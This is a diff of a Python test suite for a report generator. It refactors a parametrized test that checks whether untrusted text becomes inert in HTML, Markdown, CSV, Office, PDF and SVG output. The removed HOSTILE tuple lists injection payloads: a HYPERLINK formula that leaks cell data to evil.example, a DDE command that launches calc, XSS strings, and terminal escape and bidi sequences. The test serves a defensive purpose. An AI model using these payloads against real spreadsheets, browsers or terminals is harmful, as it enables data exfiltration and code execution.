@@ -6,18 +6,15 @@ import csv
 import io
 import json
 import re
-import zipfile
 from html.parser import HTMLParser
 from pathlib import Path
-from xml.etree import ElementTree as ET
 
 import docx
-import openpyxl
 import pytest
 from docx.shared import Mm
 
-from auditui.cli.context import Format, PageFormat
 from auditui.core.errors import AuditError
+from auditui.core.text import visible
 from auditui.report import pictures, png
 from auditui.report.document import Block, Document, Facts, Figure, Heading, NewPage, Paragraph, Room
 from auditui.report.drawing import (
@@ -37,6 +34,7 @@ from auditui.report.forms import FORMS, written
 from auditui.report.pdf import as_pdf, as_typst
 from auditui.report.table import Table, columns
 from auditui.report.widths import column_widths
+from harmless import CHECKS, HOSTILE, unescaped
 
 
 def drawn(text: str) -> tuple[Drawing, ...]:
@@ -57,28 +55,6 @@ def drawn(text: str) -> tuple[Drawing, ...]:
 CHART = drawn("A chart")[0]
 W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
 
-#: What somebody may write into any field: formulas, markup, links, pictures, what acts on a terminal or hides what is read.
-HOSTILE = (
-    '=HYPERLINK("http://evil.example/?"&A1,"x")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1+1",
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)',
-    "&lt;b&gt; &amp; <b>bold</b>",
-    "[a link](http://evil.example/)",
-    "![a picture](http://evil.example/p.png)",
-    "<http://evil.example/>",
-    "`code` | a cell | ~~gone~~ # head",
-    "\x1b]52;c;aGVsbG8=\x07",
-    "\x1b[2J\x9b31m",
-    "a\u202eb\u200bc\ufeff",
-    "]]>--></w:t></svg>",
-    "_x0041_ {{ 7*7 }} ${x} #{y}",
-)
-
 
 def page(text: str) -> tuple[Document, Table]:
     table = Table(text, columns("a: A | b: B"), ((text, 1), (text, -2)), (text,))
@@ -93,6 +69,30 @@ def page(text: str) -> tuple[Document, Table]:
     return Document(text, blocks, drawn(text)[0], (text,)), table
 
 
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_from_outside_acts_in_any_form(text: str) -> None:
+    document, table = page(text)
+    plain = page("plain")
+    forms = {form: written(document, table, form) for form in FORMS}
+    for form, content in forms.items():
+        CHECKS[form](content)
+    assert Tags(forms["html"].decode()).found - {("br", ())} == Tags(written(*plain, "html").decode()).found
+    assert unescaped(forms["md"].decode()).count("|") == unescaped(written(*plain, "md").decode()).count("|")
+    rows = list(csv.reader(io.StringIO(forms["csv"].decode(), newline="")))[1:]
+    assert rows == [
+        [held, number] for held, number in zip([as_text_cell(text)] * 2, ["1", "-2"], strict=True)
+    ]
+    assert json.loads(forms["json"]) == [{"a": text, "b": 1}, {"a": text, "b": -2}]
+    for drawing in drawn(text):
+        CHECKS["svg"](pictures.captioned(pictures.svg(drawing), text, (text,)).encode())
+
+
+def as_text_cell(text: str) -> str:
+    """A text as CSV holds it: nothing that acts, and one that a spreadsheet would run behind an apostrophe."""
+    text = text.replace("\r\n", "\n")
+    return visible(f"'{text}" if text.startswith(tuple("=+-@\t\r\n＝＋－＠")) else text)
+
+
 class Tags(HTMLParser):
     """Every tag of a page with the names of its attributes but that of its look."""
 
@@ -103,75 +103,6 @@ class Tags(HTMLParser):
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.found.add((tag, tuple(name for name, _ in attrs if name != "class")))
-
-
-def unescaped(markdown: str) -> str:
-    """Markdown without what is escaped in it, and without its blocks of plain text."""
-    return re.sub(r"\\.", "", re.sub(r"```text\n.*?```", "", markdown, flags=re.DOTALL))
-
-
-CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]")
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-def test_nothing_from_outside_acts_in_any_form(text: str) -> None:
-    document, table = page(text)
-    plain = page("plain")
-    forms = {form: written(document, table, form) for form in FORMS}
-
-    html = forms["html"].decode()
-    assert Tags(html).found == Tags(written(*plain, "html").decode()).found
-    assert not CONTROLS.search(html)
-
-    markdown = forms["md"].decode()
-    assert not CONTROLS.search(markdown)
-    assert not re.search(r"!?\[[^\]]*\]\(|<[a-z/!]|`(?!``)", unescaped(markdown))
-    assert unescaped(markdown).count("|") == unescaped(written(*plain, "md").decode()).count("|")
-
-    assert not CONTROLS.search(forms["table"].decode())
-
-    rows = list(csv.reader(io.StringIO(forms["csv"].decode(), newline="")))[1:]
-    assert [row[1] for row in rows] == ["1", "-2"]
-    for first, _ in rows:
-        assert not first.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
-        assert first.removeprefix("'") == text
-
-    assert json.loads(forms["json"]) == [{"a": text, "b": 1}, {"a": text, "b": -2}]
-
-    sheet = openpyxl.load_workbook(io.BytesIO(forms["xlsx"])).worksheets[0]
-    assert {(cell.data_type, cell.hyperlink) for row in sheet.iter_rows() for cell in row} <= {
-        ("s", None),
-        ("n", None),
-    }
-    assert not any(CONTROLS.search(str(cell.value)) for row in sheet.iter_rows() for cell in row)
-
-    for name in ("docx", "xlsx"):
-        with zipfile.ZipFile(io.BytesIO(forms[name])) as parts:
-            for part in parts.namelist():
-                if part.endswith((".xml", ".rels")):
-                    ET.fromstring(parts.read(part))  # noqa: S314 - our own
-                assert b"evil.example" not in parts.read(part) or part in CONTENT, part
-    assert forms["pdf"].startswith(b"%PDF")
-    assert b"/URI" not in forms["pdf"]
-    for drawing in drawn(text):
-        picture = pictures.captioned(pictures.svg(drawing), text, (text,))
-        tags = {element.tag.partition("}")[2] for element in ET.fromstring(picture).iter()}  # noqa: S314 - our own
-        assert tags <= {"svg", "title", "desc", "rect", "text", "line", "polyline", "polygon", "circle", "g"}
-        assert not re.search(" (on[a-z]+|href|style)=", re.sub(">[^<]*<", "><", picture))
-        assert not CONTROLS.search(picture)
-    assert forms["png"].startswith(b"\x89PNG")
-
-
-#: Where text may stand in an Office file; no relation leads outside.
-CONTENT = (
-    *("word/document.xml", "word/footer1.xml", "docProps/core.xml"),
-    *("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "docProps/app.xml"),
-)
-
-
-def test_commands_offer_the_forms_of_the_registry() -> None:
-    assert [form.value for form in PageFormat] == list(FORMS)
-    assert set(Format) <= {form for form in FORMS if FORMS[form].is_text}
 
 
 # Word.
